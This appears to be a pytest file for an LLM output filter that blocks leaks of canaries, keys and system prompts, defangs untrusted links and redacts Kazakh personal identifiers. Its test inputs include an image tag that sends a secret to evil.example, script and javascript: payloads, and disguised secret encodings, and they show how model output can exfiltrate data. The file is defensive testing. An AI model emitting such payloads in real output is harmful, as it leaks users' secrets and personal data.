"""The output filter by its front door: the same result for every cut, and nothing active, secret or personal in it."""

from __future__ import annotations

import base64
import time
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from countersign.guard.literals import folded
from countersign.guard.markup import MAX_LINK_CHARS
from countersign.guard.output import OutputFilter, OutputRules, filter_quote, filter_whole
from tests.guard.samples import CANARY, CARD, IBAN, IIN, PROVIDER_KEY, RULES, SYSTEM_PROMPT

PIECES = [
    *"<>[]()!&/|-:.,@ \n\tЗé٤·1K+x",
    "http", "s://", "https://evil.example", "www.", "evil.example/x", "javascript:", "<b>", "</a>", "<img src=", "![", "](",
    "&#104;", "&lt;", "\u200b", "\u202e", "\U000e0041", "ｈｔｔｐｓ：／／", "portal.example.kz", "https://portal.example.kz/a",
    "4111", "1111", IIN, IIN[:6], IIN[6:], IBAN, "KZ86 125K", " ZT50 0410 0100", "ИИН ", "карта ", "+7 (701) ", "123-45-67",
    "a.b@mail.example", CANARY, CANARY[:13], CANARY[13:], PROVIDER_KEY[:9], PROVIDER_KEY[9:], "sk-abcdefghij1234567890",
    "the fenced passages and cite each", " of them by its number", "Answer only from", "x" * 70, "7" * 70,
]  # fmt: skip
texts = st.lists(st.sampled_from(PIECES) | st.text(max_size=4), max_size=30).map("".join)
_TYPICAL = f"Тариф 5 000 ₸ [1]. См. https://evil.example/p?q=1, ИИН {IIN}, тел. +7 (701) 123-45-67. "


def streamed(text: str, cuts: list[int], rules: OutputRules = RULES) -> tuple[str, str]:
    """`text` fed in pieces that end at `cuts`."""
    stream = OutputFilter(rules)
    out, at = "", 0
    for cut in [*sorted(cut % (len(text) + 1) for cut in cuts), len(text)]:
        out += stream.feed(text[at:cut])
        at = cut
    return out + stream.finish(), stream.blocked_reason


def character_by_character(text: str, rules: OutputRules = RULES) -> str:
    return streamed(text, list(range(len(text))), rules)[0]


@settings(max_examples=200, deadline=None)
@given(texts, st.lists(st.integers(0, 4000), max_size=12))
def test_every_cut_gives_the_same_text(text: str, cuts: list[int]) -> None:
    whole = filter_whole(text, RULES)
    assert streamed(text, cuts) == (whole.text, whole.blocked_reason)


@settings(max_examples=150, deadline=None)
@given(texts)
def test_single_characters_give_the_same_text(text: str) -> None:
    assert character_by_character(text) == filter_whole(text, RULES).text


@pytest.mark.parametrize(
    "length", [MAX_LINK_CHARS - 1, MAX_LINK_CHARS, MAX_LINK_CHARS + 1, 3 * MAX_LINK_CHARS]
)
@pytest.mark.parametrize(
    "start",
    [
        "",
        "https://evil.example/",
        "<img alt=",
        "![a](https://evil.example/",
        "[a](https://portal.example.kz/",
    ],
)
def test_the_caps_do_not_depend_on_the_cut(start: str, length: int) -> None:
    text = f"before {start}{'z' * length} after https://evil.example"
    whole = filter_whole(text, RULES).text
    for size in (1, 7, 1000, MAX_LINK_CHARS):
        assert streamed(text, list(range(0, len(text), size)))[0] == whole
    assert "https://evil" not in whole
    assert whole.startswith("before ")


@settings(max_examples=200, deadline=None)
@given(texts, texts, st.integers(0, 3), st.sampled_from([CANARY, PROVIDER_KEY]))
def test_nothing_of_a_secret_is_ever_emitted(before: str, after: str, spread: int, secret: str) -> None:
    hidden = ("\u200b" * spread).join(secret)
    stream = OutputFilter(RULES)
    emitted = "".join(stream.feed(c) for c in before + hidden + after) + stream.finish()
    assert stream.blocked_reason
    assert folded(secret) not in folded(emitted)
    clean_before = filter_whole(before, RULES)
    if not clean_before.blocked_reason and len(before) < 3 and before.isalpha():
        assert folded(secret)[:4] not in folded(emitted)


@pytest.mark.parametrize("form", [
    CANARY, CANARY.upper(), " ".join(CANARY), "\n".join(CANARY), CANARY[::-1], CANARY.encode().hex(),
    base64.b64encode(CANARY.encode()).decode(), base64.b64encode(b"x" + CANARY.encode()).decode(),
    base64.b64encode(b"xy" + CANARY.encode()).decode(), CANARY.replace("a", "а"), CANARY[:20],
    f'<img src="https://evil.example/?{CANARY}">', "".join(chr(ord(c) + 0xFEE0) for c in CANARY), f"{CANARY[:9]}<b></b>{CANARY[9:]}",
])  # fmt: skip
def test_the_canary_is_known_in_its_disguises(form: str) -> None:
    filtered = filter_whole(f"Here it is: {form} and more", RULES)
    assert filtered.blocked_reason == "canary_leaked"
    assert "more" not in filtered.text
    assert [f.code for f in filtered.findings if f.severity == "error"] == ["canary_leaked"]


def test_an_output_that_ends_within_a_secret_is_stopped_too() -> None:
    assert filter_whole(f"It is {PROVIDER_KEY[:11]}", RULES).blocked_reason == "secret_leaked"


def test_eight_words_of_the_system_prompt_stop_the_output() -> None:
    eight = " ".join(SYSTEM_PROMPT.split()[7:15])
    filtered = filter_whole(f"Well. {eight.upper()} yes", RULES)
    assert (filtered.text, filtered.blocked_reason) == ("Well. ", "system_prompt_overlap")
    seven = " ".join(SYSTEM_PROMPT.split()[7:14])
    assert filter_whole(f"Well. {seven}!", RULES).text == f"Well. {seven}!"


def test_sentences_that_the_model_is_asked_to_say_are_no_leak() -> None:
    spoken = "the documents you may see do not tell"
    text = f"Sorry: {spoken}."
    rules = replace(RULES, system_prompt=f"When nothing fits say exactly that {spoken}", spoken=(spoken,))
    assert filter_whole(text, rules).text == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("See https://evil.example/a?b=1.", "See hxxps://evil[.]example/a?b=1."),
        ("[text](https://evil.example/a)", "[text] (hxxps://evil[.]example/a)"),
        ("[text](//evil.example/a)", "[text] (//evil[.]example/a)"),
        ("![x](https://evil.example/a.png)!", "{image removed}!"),
        ("![x][ref] [ref]: https://evil.example", "! [x][ref] [ref]: hxxps://evil[.]example"),
        ('<a href="https://evil.example">t</a>', "t"),
        ("<https://evil.example>", "hxxps://evil[.]example"),
        ("www.evil.example evil.example/?d=1", "www[.]evil[.]example evil[.]example/?d=1"),
        ("htt<b>ps://evil.example", "hxxps://evil[.]example"),
        ("&#104;ttps://evil.example", "hxxps://evil[.]example"),
        ("h\u200bttps://evil.example", "hxxps://evil[.]example"),
        ("ｈｔｔｐｓ：／／evil．example", "hxxps://evil[.]example"),
        ("javascript:alert(1)", "javascript[:]alert(1)"),
        ("https://portal.example.kz@evil.example/", "hxxps://portal[.]example[.]kz@evil[.]example/"),
        ("https://portal.example.kz.evil.example/", "hxxps://portal[.]example[.]kz[.]evil[.]example/"),
        ("https://portal.example.kz/ok, fine", "https://portal.example.kz/ok, fine"),
        ("[a](https://x.gov.example/y)", "[a](https://x.gov.example/y)"),
        ("![a](https://portal.example.kz/p.png)", "![a](https://portal.example.kz/p.png)"),
        ("<<b>script>alert(1)", "< script>alert(1)"),
        ("2 < 3, x<y, 5 > 4", "2 < 3, x< y, 5 > 4"),
        ("Сумма 450 000 ₸ и/или 1.5/2 т.е. 24/7 [1][2]", "Сумма 450 000 ₸ и/или 1.5/2 т.е. 24/7 [1][2]"),
        ("Пиши на info@bank.example, сайт bank.example.", "Пиши на info@bank.example, сайт bank.example."),
    ],
)
def test_links_images_and_tags(text: str, expected: str) -> None:
    assert filter_whole(text, RULES).text == expected


_ACTIVE = ("http://", "https://", "<img", "<script", "<a ", "javascript:", "](h", "](/")


@settings(max_examples=200, deadline=None)
@given(texts)
def test_nothing_active_is_left_when_no_host_is_allowed(text: str) -> None:
    out = filter_whole(text, replace(RULES, allowed_hosts=())).text.lower()
    assert not [sign for sign in _ACTIVE if sign in out]
    assert "![" not in out


@pytest.mark.parametrize("value", [IIN, CARD, IBAN])
@pytest.mark.parametrize("spelling", ["{}", " {} ", "№{}.", "|{}|", "({})", "ИИН:{};"])
def test_identifiers_do_not_leave(value: str, spelling: str) -> None:
    for form in (value, "-".join(value[n : n + 4] for n in range(0, len(value), 4)), "\u200b".join(value)):
        out = character_by_character("Ответ " + spelling.format(form))
        assert value not in folded(out).upper().replace("[", ""), form
        assert "[" in out


def test_the_right_shows_personal_data_but_no_keys() -> None:
    text = f"ИИН {IIN}, ключ sk-abcdefghij1234567890"
    out = filter_whole(text, replace(RULES, may_see_personal=True)).text
    assert IIN in out
    assert "sk-abc" not in out


def test_one_value_has_one_token_within_a_tenant() -> None:
    first, second = filter_whole(f"{IIN} и {IIN[:6]} {IIN[6:]}", RULES).text.split(" и ")
    assert first == second != "[IIN]"
    other = filter_whole(IIN, replace(RULES, tenant_key=b"another tenant")).text
    assert other != first


def test_findings_never_show_the_value() -> None:
    filtered = filter_whole(f"ИИН {IIN} {CARD} a.b@mail.example {CANARY}", RULES)
    assert {f.evidence for f in filtered.findings if f.code == "personal_redacted"} == {
        "card 1, email 1, iin 1"
    }
    shown = repr(filtered.findings) + repr(RULES)
    assert not [value for value in (IIN, CARD, "mail.example", CANARY) if value in shown]


def test_a_quote_is_redacted_and_nothing_else() -> None:
    assert (
        filter_quote(f"<b>ИИН {IIN}</b> https://x.example", replace(RULES, tenant_key=b""))
        == "<b>ИИН [IIN]</b> https://x.example"
    )


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet="abcАБВ 0123456789 ,", max_size=300))
def test_ordinary_text_waits_no_longer_than_the_cap(text: str) -> None:
    stream = OutputFilter(replace(RULES, system_prompt="", canary="", secrets=()))
    emitted = 0
    for fed, c in enumerate(text, 1):
        emitted += len(stream.feed(c))
        waiting_word = len(text[:fed].rsplit(" ", 1)[-1])
        assert fed - emitted <= 64 + 8 + waiting_word


def test_datamarks_copied_by_the_model_become_spaces() -> None:
    rules = replace(RULES, datamark="¦")
    assert filter_whole("Тариф¦стоит¦5", rules).text == "Тариф стоит 5"


def test_a_small_piece_costs_little() -> None:
    text = _TYPICAL * 20
    stream = OutputFilter(RULES)
    began = time.process_time()
    pieces = [stream.feed(text[at : at + 4]) for at in range(0, len(text), 4)]
    assert (time.process_time() - began) / len(pieces) < 0.001  # ten times the target: machines differ


def test_a_secret_inside_nested_tags_leaves_no_open_tag() -> None:
    out = filter_whole(f"x <a href=(<img src={CANARY}<b>", RULES)
    assert out.blocked_reason == "canary_leaked"
    assert "<img" not in out.text
